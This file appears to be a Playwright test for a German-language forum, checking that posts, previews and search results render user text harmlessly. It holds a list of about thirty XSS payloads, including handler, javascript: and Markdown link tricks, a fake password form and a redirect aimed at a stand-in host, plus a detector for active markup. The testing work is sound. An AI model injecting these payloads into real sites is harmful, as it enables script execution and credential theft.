import { expect, type Page, test } from '../fixtures.ts';
import { emre, tomke } from '../people.ts';
import { answer, startTopic } from './arrange.ts';
import { answerField, post } from './places.ts';

const RUN = 'window.ran=1;alert(1)';
const texts = [
	`<script>${RUN}</script>`,
	`<ScRiPt src="data:text/javascript,${RUN}"></sCrIpT>`,
	`<img src=x onerror="${RUN}">`,
	`<img src=x onerror\n=\n"${RUN}">`,
	`<svg onload="${RUN}"><script>${RUN}</script></svg>`,
	`<svg><a xlink:href="javascript:${RUN}"><text y="20">Klick</text></a></svg>`,
	`<math><mtext></p><img src=x onerror="${RUN}"></mtext></math>`,
	`<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
	`<iframe src="javascript:parent.${RUN}"></iframe>`,
	`<object data="data:text/html,<script>${RUN}</script>"></object>`,
	`<style>@import 'data:text/css,*{display:none}';*{visibility:hidden}</style>`,
	`<p style="position:fixed;inset:0;background:red" onmouseover="${RUN}">Decke</p>`,
	`<form action="https://boese.example"><input name="password"><button>Anmelden</button></form>`,
	`<a href="javascript:${RUN}" onclick="${RUN}">Link</a>`,
	`[Link](javascript:${RUN})`,
	`[Link](JaVaScRiPt:${RUN})`,
	`[Link](java\tscript:${RUN})`,
	`[Link](&#106;avascript&colon;${RUN})`,
	`[Link](data:text/html,<script>${RUN}</script>)`,
	`[Link](vbscript:${RUN})`,
	`![Bild](x" onerror="${RUN})`,
	`![Bild](javascript:${RUN})`,
	`<javascript:${RUN}>`,
	`[Verweis]: javascript:${RUN}\n\n[Verweis]`,
	`**<b onmouseover="${RUN}">[fett *<img src=x onerror="${RUN}">*](javascript:${RUN})</b>**`,
	`> - [x] <details open ontoggle="${RUN}">\n>   \`\`\`html\n>   <script>${RUN}</script>\n>   \`\`\``,
	`| Kopf |\n| --- |\n| <img src=x onerror="${RUN}"> [a](javascript:${RUN}) |`,
	`\`\`\`"><script>${RUN}</script>\nCode\n\`\`\``,
	`<base href="https://boese.example/"><meta http-equiv="refresh" content="0;url=https://boese.example">`,
	`<!-- <img src=x onerror="${RUN}"> --!> <img src=x onerror="${RUN}">`,
];

test('no text of a post becomes anything but text, also in its preview and in search', async ({ as }) => {
	const author = await as(emre);
	const topic = await startTopic(author, {
		title: 'Feindliche Texte <img src=x onerror=alert(1)>',
		text: texts[0] ?? '',
	});
	for (const text of texts) await answer(author, topic, `Probe ${text}\n\n${text}`);

	const page = await as(tomke);
	const dialogs: string[] = [];
	page.on('dialog', async (dialog) => {
		dialogs.push(dialog.message());
		await dialog.dismiss();
	});
	for (let first = 1; first <= texts.length + 1; first += 20) {
		await page.goto(`${topic}?nr=${first}`);
		await expect(post(page, first)).toBeAttached();
		expect(await hostile(page)).toEqual([]);
	}
	await answerField(page).fill(texts.join('\n\n'));
	await page.getByRole('button', { name: 'Vorschau' }).click();
	await expect(page.getByRole('status').getByRole('link', { name: 'Link' })).toHaveCount(0);
	await expect(page.getByRole('status').getByText('Kopf')).toBeVisible();
	expect(await hostile(page)).toEqual([]);
	await page.goto('/suche?q=Feindliche%20Probe');
	await expect(page.getByRole('heading', { level: 1 })).toContainText('Suche nach');
	expect(await hostile(page)).toEqual([]);
	expect(dialogs).toEqual([]);
	expect(await page.evaluate(() => 'ran' in window)).toBe(false);
});

/** What no text may bring into the page's content: elements, attributes and addresses that act. */
function hostile(page: Page): Promise<string[]> {
	return page.getByRole('main').evaluate((main) => {
		const found: string[] = [];
		for (const element of main.querySelectorAll('.prose *, mark, h1, h3')) {
			if (
				/^(script|style|iframe|object|embed|img|svg|math|form|input|button|base|meta|link|details)$/.test(
					element.localName,
				)
			)
				found.push(element.outerHTML);
			for (const { name, value } of element.attributes) {
				if (name.startsWith('on') || name === 'style' || name === 'srcdoc') found.push(element.outerHTML);
				if (/^(href|src|action|xlink:href)$/.test(name) && !/^(https?:|mailto:|\/|#|\?)/.test(value))
					found.push(element.outerHTML);
			}
		}
		return found;
	});
}
